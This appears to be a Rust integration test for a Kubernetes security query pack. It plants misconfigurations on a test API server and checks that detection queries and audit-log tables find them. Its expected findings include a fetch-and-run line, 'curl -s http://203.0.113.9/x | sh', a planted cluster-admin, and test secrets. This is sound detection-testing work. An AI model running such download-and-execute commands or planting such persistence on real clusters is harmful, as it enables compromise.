//! The tables that are computed from several resources, those of audit logs, the pack `kubernetes` and the queries of
//! the guide, on a real API server.

use std::collections::BTreeMap;
use std::time::Duration;

use indago_engine::{Engine, Limits, Outcome};
use indago_table::Sys;
use indago_tables_kubernetes::{Kubernetes, Settings};

use indago_testkit::beds::{Fault, KubeApi, KubeApiOptions};

use crate::kubernetes::{ask, engine, rows, runtime};
use crate::support::{kubernetes_guide, root};

const CLEAN: &str = include_str!("fixtures/kubernetes/clean.yaml");
const PLANTED: &str = include_str!("fixtures/kubernetes/planted.yaml");

/// Something that each query of the pack finds among what is planted.
const FOUND: &[(&str, &str)] = &[
    ("exposure_dashboards", "kubernetes-dashboard"),
    ("exposure_external_ips", "203.0.113.7"),
    ("exposure_host_ports", "HostPort dev tool 9000"),
    ("exposure_metadata_service", "dev tool"),
    ("exposure_open_pods", "NodePort dev kubernetes-dashboard tool"),
    ("exposure_plain_http", "tool.example.com"),
    ("exposure_privileged_pods", "NodePort dev kubernetes-dashboard 30080"),
    ("persistence_control_plane_pods", "dev tool"),
    ("persistence_downloads", "curl -s http://203.0.113.9/x | sh"),
    ("persistence_outside_webhooks", "https://collector.example.com/pods"),
    ("persistence_static_pods", "static-node-b"),
    ("persistence_unowned_pods", "dev tool"),
    ("posture_capabilities", "SYS_ADMIN"),
    ("posture_divergent_images", "registry.local drift 1 2 2"),
    ("posture_host_namespaces", "dev static-node-b"),
    ("posture_host_paths", "/etc"),
    ("posture_ignored_webhooks", "pods.collector.example.com"),
    ("posture_latest_images", "dev tool"),
    ("posture_privileged_containers", "dev tool tool"),
    ("posture_standards", "Privileged Containers"),
    ("posture_unenforced_namespaces", "dev"),
    ("rbac_absent_accounts", "ghost"),
    ("rbac_absent_roles", "not-yet"),
    ("rbac_anonymous", "anonymous-view"),
    ("rbac_certificates", "approve certificates"),
    ("rbac_cluster_admins", "mallory"),
    ("rbac_default_accounts", "default-edit"),
    ("rbac_escalation", "bind"),
    ("rbac_everybody", "accounts-view"),
    ("rbac_exec", "system:serviceaccount:dev:builder"),
    ("rbac_nodes_proxy", "nodes/proxy"),
    ("rbac_tokens", "create tokens"),
    ("rbac_webhook_changes", "change webhooks"),
    ("rbac_wildcards", "group:operators"),
    ("rbac_workloads", "change workloads"),
    ("secrets_cloud_keys", "AWS_SECRET_ACCESS_KEY"),
    ("secrets_in_environment", "settings"),
    ("secrets_in_specifications", "DB_PASSWORD"),
    ("secrets_mounted_tokens", "default-edit"),
    ("secrets_readers", "read secrets"),
];

/// What the queries of the pack return, by their name.
async fn found(engine: &Engine) -> BTreeMap<String, Vec<String>> {
    let mut found = BTreeMap::new();
    for entry in std::fs::read_dir(root().join("queries/kubernetes")).expect("the pack").flatten() {
        let path = entry.path();
        if path.extension().is_some_and(|extension| extension == "sql") {
            let sql = std::fs::read_to_string(&path).expect("a query");
            let name = path.file_stem().expect("a name").to_string_lossy().into_owned();
            found.insert(name, rows_with_notes(engine, &sql).await);
        }
    }
    found
}

/// Sets the status of a pod. A replacement of the status would replace its labels and owners too.
fn set_status(api: &KubeApi, namespace: &str, name: &str, status: &str) {
    let patch = format!(r#"{{"status":{status}}}"#);
    let arguments = ["patch", "pod", name, "-n", namespace, "--subresource=status", "--type=merge", "-p", &patch];
    api.kubectl(&arguments).expect("the status fits");
}

#[test]
fn the_pack_finds_what_is_planted_and_the_tables_show_it() {
    let api = KubeApi::start().expect("an API server");
    api.apply(CLEAN).expect("the clean workload fits");
    let proxy = Fault::kube(&api).expect("a proxy");
    let kubeconfig = proxy.kubeconfig("admin").expect("a kubeconfig");
    runtime().block_on(async {
        let engine = engine(&kubeconfig, Limits::default()).await;
        let on_clean: Vec<_> = found(&engine).await.into_iter().filter(|(_, rows)| !rows.is_empty()).collect();
        assert_eq!(on_clean, []);

        api.apply(PLANTED).expect("what is planted fits");
        for (name, digest) in [("drift-1", "a"), ("drift-2", "b")] {
            let image = format!("registry.local/drift@sha256:{}", digest.repeat(64));
            let status = format!(
                r#"{{"phase":"Running","containerStatuses":[{{"name":"drift","image":"registry.local/drift:1",
                "imageID":"{image}","ready":true,"restartCount":0,"state":{{}}}}]}}"#
            );
            set_status(&api, "dev", name, &status);
        }
        set_status(&api, "dev", "tool", r#"{"phase":"Running","hostIP":"192.0.2.2","podIP":"10.1.0.5"}"#);
        set_status(&api, "web", "web-1", r#"{"phase":"Running","hostIP":"192.0.2.1","podIP":"10.1.0.6"}"#);
        let planted = found(&engine).await;
        let names: Vec<&str> = planted.keys().map(String::as_str).collect();
        assert_eq!(names, FOUND.iter().map(|(name, _)| *name).collect::<Vec<_>>());
        for (name, expected) in FOUND {
            let rows = &planted[*name];
            assert!(rows.iter().any(|row| row.contains(expected)), "{name} does not find `{expected}`: {rows:?}");
            // What is clean stays clean.
            assert!(!rows.iter().any(|row| row.contains("web-1")), "{name}: {rows:?}");
        }

        check_exposures(&engine).await;
        check_reachability(&engine).await;
        check_webhooks_and_images(&engine).await;
        check_guide(&engine).await;

        // All tables of the query share one list of the pods.
        proxy.clear_requests();
        let sql = "SELECT count(*) FROM kubernetes_pods p
            JOIN kubernetes_network_reachability r ON r.pod_uid = p.uid
            JOIN kubernetes_pod_security s ON s.uid = p.uid
            JOIN kubernetes_exposures e ON e.pod_uid = p.uid";
        assert_ne!(rows(&engine, sql).await, ["0"]);
        let lists = proxy.requests().iter().filter(|request| request.path == "/api/v1/pods").count();
        assert_eq!(lists, 1);
    });
    check_partial(&api);
}

async fn check_exposures(engine: &Engine) {
    let sql =
        "SELECT type, namespace, name, coalesce(array_to_string(exposed_addresses, ','), ''), port, host, tls, service_name,
        service_port, target_port, pod_name, external FROM kubernetes_exposures ORDER BY type, namespace, name, port";
    assert_eq!(
        rows(engine, sql).await,
        [
            "ExternalIP dev kubernetes-dashboard 203.0.113.7 80   kubernetes-dashboard 80 8080 tool true",
            "HostNetwork dev static-node-b  7000     7000 static-node-b true",
            "HostPort dev tool 192.0.2.2 9000     8080 tool true",
            "Ingress dev tool  80 tool.example.com false kubernetes-dashboard 80 8080 tool true",
            "Ingress web web  443 shop.example.com true web 80 8080 web-1 true",
            "NodePort dev kubernetes-dashboard  30080   kubernetes-dashboard 80 8080 tool true",
        ]
    );
    let secrets = "SELECT array_to_string(tls_secrets, ',') FROM kubernetes_exposures WHERE namespace = 'web'";
    assert_eq!(rows(engine, secrets).await, ["web/shop-tls"]);
}

async fn check_reachability(engine: &Engine) {
    let isolation = "SELECT direction, isolated, array_to_string(policies, ',') FROM kubernetes_network_reachability
        WHERE namespace = 'web' ORDER BY 1";
    assert_eq!(rows(engine, isolation).await, ["egress true default-deny", "ingress true default-deny,from-ingress"]);
    let pair = |direction: &str, port: i64| {
        format!(
            "SELECT allowed, array_to_string(allowing_policies, ','), array_to_string(allowed_ports, ','), peer_isolated
             FROM kubernetes_network_reachability WHERE pod_name = 'web-1' AND direction = '{direction}'
             AND peer_namespace = 'dev' AND peer_pod_name = 'tool' AND port = {port}"
        )
    };
    // The policy names the port, and the pod's container has its number.
    assert_eq!(rows(engine, &pair("ingress", 8080)).await, ["true from-ingress TCP/8080 false"]);
    assert_eq!(rows(engine, &pair("ingress", 80)).await, ["false   false"]);
    assert_eq!(rows(engine, &pair("egress", 8080)).await, ["false   false"]);
    // The same connection, seen from its other end, and by the address of the pod.
    let from_tool = "SELECT allowed, peer_pod_name, array_to_string(peer_allowing_policies, ',')
        FROM kubernetes_network_reachability WHERE pod_name = 'tool' AND direction = 'egress'
        AND peer_ip = '10.1.0.6' AND port = 8080";
    assert_eq!(rows(engine, from_tool).await, ["true web-1 from-ingress"]);
    let outside = "SELECT pod_name, allowed FROM kubernetes_network_reachability WHERE direction = 'egress'
        AND peer_ip = '203.0.113.9' AND port = 443 AND pod_name IN ('tool', 'web-1') ORDER BY 1";
    assert_eq!(rows(engine, outside).await, ["tool true", "web-1 false"]);
    // A join passes the peers.
    let joined = "SELECT r.pod_name, r.peer_pod_name, r.allowed FROM kubernetes_pods p
        JOIN kubernetes_network_reachability r ON r.peer_namespace = p.namespace AND r.peer_pod_name = p.name
        WHERE p.name = 'web-1' AND r.direction = 'egress' AND r.namespace = 'dev' AND r.port = 8080 ORDER BY 1";
    let expected = ["drift-1 web-1 true", "drift-2 web-1 true", "static-node-b web-1 false", "tool web-1 true"];
    assert_eq!(rows(engine, joined).await, expected);
}

async fn check_webhooks_and_images(engine: &Engine) {
    let webhooks =
        "SELECT type, configuration, rule, array_to_string(operations, ','), array_to_string(resources, ','),
        scope, failure_policy, has_ca_bundle, timeout_seconds FROM kubernetes_webhooks ORDER BY rule";
    assert_eq!(
        rows(engine, webhooks).await,
        [
            "mutating collector 0 CREATE,UPDATE pods * Ignore false 1",
            "mutating collector 1 CREATE secrets Namespaced Ignore false 1",
        ]
    );
    let images = "SELECT registry, repository, tag, digest IS NOT NULL FROM kubernetes_images
        WHERE pod_name IN ('web-1', 'tool') ORDER BY repository";
    let expected = ["docker.io library/tool latest 0", "registry.local:5000 shop/web 1.4 1"];
    assert_eq!(rows(engine, images).await, expected);
    let sql =
        "SELECT name, level FROM kubernetes_pod_security WHERE name IN ('web-1', 'tool', 'drift-1') ORDER BY name";
    assert_eq!(rows(engine, sql).await, ["drift-1 baseline", "tool privileged", "web-1 restricted"]);
}

/// Every query of the guide's page about Kubernetes alone runs.
async fn check_guide(engine: &Engine) {
    let queries = kubernetes_guide(true);
    assert!(queries.len() >= 8, "{} queries", queries.len());
    for query in &queries {
        let (_, warnings) = ask(engine, query).await;
        // The page also queries audit logs, which this engine lacks.
        let is_expected = |text: &str| query.contains("audit") && text.contains("no audit log is configured");
        assert!(
            warnings.iter().all(|warning| warning.is_note() || is_expected(&warning.to_string())),
            "{query}: {warnings:?}"
        );
    }
}

/// A list that may not be read is a warning. What does not need it has its rows.
fn check_partial(api: &KubeApi) {
    runtime().block_on(async {
        let engine = engine(api.kubeconfig("viewer"), Limits::default()).await;
        let sql = "SELECT DISTINCT type FROM kubernetes_exposures ORDER BY 1";
        let (types, warnings) = ask(&engine, sql).await;
        assert_eq!(types, ["ExternalIP", "HostNetwork", "HostPort", "Ingress", "NodePort"]);
        let [warning] = warnings.as_slice() else { panic!("{warnings:?}") };
        assert_eq!((warning.outcome, warning.needs.as_deref()), (Outcome::Denied, Some("list nodes")));
        // Without the policies, nothing could be said about the pods.
        let engine = crate::kubernetes::engine(api.kubeconfig("tenant"), Limits::default()).await;
        let (pods, warnings) = ask(&engine, "SELECT pod_name FROM kubernetes_network_reachability").await;
        assert!(pods.is_empty() && !warnings.is_empty(), "{pods:?} {warnings:?}");
    });
}

/// An engine that reads the audit logs of a server and calls nobody.
async fn auditor(api: &KubeApi) -> Engine {
    let settings = Settings { audit_logs: vec![api.audit_logs()], ..Settings::default() };
    let tables = indago_tables_kubernetes::tables(&Kubernetes::new(&Sys::live(), settings));
    Engine::builder().tables(tables).build().await.expect("an engine")
}

/// Waits until the server has packed all rotated files, and returns all their lines.
fn logged(api: &KubeApi) -> Vec<serde_json::Value> {
    let pattern = api.audit_logs();
    let folder = pattern.parent().expect("a directory");
    for _ in 0..100 {
        let names: Vec<_> = std::fs::read_dir(folder).expect("the logs").flatten().map(|entry| entry.path()).collect();
        let is_unpacked = |path: &&std::path::PathBuf| {
            path.file_name().is_some_and(|name| name != "audit.log") && path.extension().is_some_and(|end| end == "log")
        };
        if names.iter().filter(is_unpacked).count() == 0 && names.len() > 1 {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let mut all = std::process::Command::new("sh");
    all.args(["-c", "zcat -f audit*"]).current_dir(folder);
    let text = crate::support::output(&mut all);
    text.lines().map(|line| serde_json::from_str(line).expect("an event")).collect()
}

#[test]
fn audit_logs_of_a_server_are_read() {
    let api = KubeApi::with(KubeApiOptions { audit: true, ..KubeApiOptions::default() }).expect("an API server");
    api.apply(CLEAN).expect("the clean workload fits");
    api.kubectl(&["create", "secret", "generic", "s", "--from-literal=password=hunter2-plain"]).expect("a secret");
    api.kubectl(&["get", "secrets", "-A", "--as=alice", "--as-group=system:masters"]).expect("impersonation");
    api.kubectl(&["create", "configmap", "dry", "--from-literal=a=b", "--dry-run=server"]).expect("a dry run");
    let big = format!("--from-literal=text={}", "x".repeat(100_000));
    for number in 0..12 {
        api.kubectl(&["create", "configmap", &format!("big-{number}"), &big]).expect("a config map");
    }
    runtime().block_on(async {
        for kubeconfig in [api.kubeconfig("nobody"), api.kubeconfig_by_token("web", "web", -600).expect("a token")] {
            let engine = engine(kubeconfig, Limits::default()).await;
            let (pods, warnings) = ask(&engine, "SELECT name FROM kubernetes_pods WHERE namespace = 'web'").await;
            assert!(pods.is_empty() && !warnings.is_empty());
        }
        let events = logged(&api);
        let engine = auditor(&api).await;
        let count = |count: usize| vec![count.to_string()];
        assert_eq!(rows(&engine, "SELECT count(*) FROM kubernetes_audit_events").await, count(events.len()));
        let files = rows(&engine, "SELECT count(DISTINCT path) FROM kubernetes_audit_events").await;
        assert!(files[0].parse::<i64>().expect("a number") > 1, "rotated files: {files:?}");
        let of = |pick: &dyn Fn(&serde_json::Value) -> bool| events.iter().filter(|event| pick(event)).count();
        for (condition, expected) in [
            ("username = 'nobody'", of(&|event| event["user"]["username"] == "nobody")),
            ("impersonated_username = 'alice'", of(&|event| event["impersonatedUser"]["username"] == "alice")),
            (
                "verb = 'create' AND resource = 'configmaps'",
                of(&|event| event["verb"] == "create" && event["objectRef"]["resource"] == "configmaps"),
            ),
            ("response_code = 401", of(&|event| event["responseStatus"]["code"] == 401)),
            ("decision = 'forbid'", of(&|event| event["annotations"]["authorization.k8s.io/decision"] == "forbid")),
            ("stage = 'ResponseComplete'", of(&|event| event["stage"] == "ResponseComplete")),
            ("dry_run", of(&|event| event["requestURI"].as_str().is_some_and(|uri| uri.contains("dryRun=All")))),
            (
                "api_group = '' AND resource = 'pods'",
                of(&|event| event["objectRef"]["resource"] == "pods" && event["objectRef"]["apiGroup"].is_null()),
            ),
        ] {
            assert!(expected > 0, "{condition}");
            let sql = format!("SELECT count(*) FROM kubernetes_audit_events WHERE {condition}");
            assert_eq!(rows(&engine, &sql).await, count(expected), "{condition}");
        }
        // Periods return the same events as a comparison that prunes nothing.
        let mut times: Vec<&str> = events.iter().filter_map(|event| event["stageTimestamp"].as_str()).collect();
        times.sort_unstable();
        let (middle, late) = (times[times.len() / 2], times[times.len() * 9 / 10]);
        for condition in [
            format!("stage_timestamp >= '{middle}'"),
            format!("stage_timestamp < '{middle}'"),
            format!("stage_timestamp BETWEEN '{middle}' AND '{late}'"),
            format!("request_received_timestamp >= '{late}'"),
        ] {
            let pruned =
                rows(&engine, &format!("SELECT count(*) FROM kubernetes_audit_events WHERE {condition}")).await;
            let hidden = condition.replace("_timestamp ", "_timestamp + INTERVAL '0' SECOND ");
            let all = rows(&engine, &format!("SELECT count(*) FROM kubernetes_audit_events WHERE {hidden}")).await;
            assert_eq!(pruned, all, "{condition}");
        }
        // No column shows the value of a secret.
        assert!(events.iter().any(|event| event.to_string().contains("aHVudGVyMi1wbGFpbg")), "the log has it");
        let all = rows(&engine, "SELECT * FROM kubernetes_audit_events WHERE resource = 'secrets'").await;
        assert!(!all.is_empty() && !all.iter().any(|row| row.contains("aHVudGVyMi1wbGFpbg")));
        let objects =
            "SELECT count(*) FROM kubernetes_audit_events WHERE request_object IS NOT NULL AND resource = 'configmaps'";
        assert_ne!(rows(&engine, objects).await, ["0"]);

        let denied = "SELECT username, verb, resource, namespace, refused_by, count FROM kubernetes_denied
            WHERE resource = 'pods' ORDER BY username";
        let refusals = rows(&engine, denied).await;
        assert!(refusals.contains(&"nobody list pods web authorization 1".to_owned()), "{refusals:?}");
        assert!(refusals.iter().any(|row| row.contains("list pods web authentication")), "{refusals:?}");

        // Rights and what was done with them.
        let settings = Settings {
            kubeconfig: Some(api.kubeconfig("admin")),
            audit_logs: vec![api.audit_logs()],
            ..Settings::default()
        };
        let tables = indago_tables_kubernetes::tables(&Kubernetes::new(&Sys::live(), settings));
        let both = Engine::builder().tables(tables).build().await.expect("an engine");
        let unused = "SELECT verb, resource, namespace, role_name FROM kubernetes_unused_access
            WHERE subject_name = 'tenant' AND days = 1 ORDER BY verb";
        // The bed itself asks whether the tenant may list pods.
        let expected = ["get pods shop bed-tenant", "watch pods shop bed-tenant"];
        assert_eq!(rows_with_notes(&both, unused).await, expected);
        let tenant = crate::kubernetes::engine(api.kubeconfig("tenant"), Limits::default()).await;
        api.apply(SHOP_POD).expect("a pod");
        let config = api.kubeconfig("tenant");
        let mut get = std::process::Command::new("kubectl");
        get.args(["get", "pod", "p", "-n", "shop", "--kubeconfig"]).arg(config);
        crate::support::output(&mut get);
        assert_eq!(rows(&tenant, "SELECT name FROM kubernetes_pods WHERE namespace = 'shop'").await, ["p"]);
        assert_eq!(rows_with_notes(&both, unused).await, ["watch pods shop bed-tenant"]);
    });
}

const SHOP_POD: &str = r#"{"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "p", "namespace": "shop"},
    "spec": {"containers": [{"name": "c", "image": "registry.local/c:1"}]}}"#;

/// Rows of a query that may have notes, such as that of `kubernetes_access` about other authorizers.
async fn rows_with_notes(engine: &Engine, sql: &str) -> Vec<String> {
    let (rows, warnings) = ask(engine, sql).await;
    assert!(warnings.iter().all(indago_engine::Warning::is_note), "{warnings:?}");
    rows
}
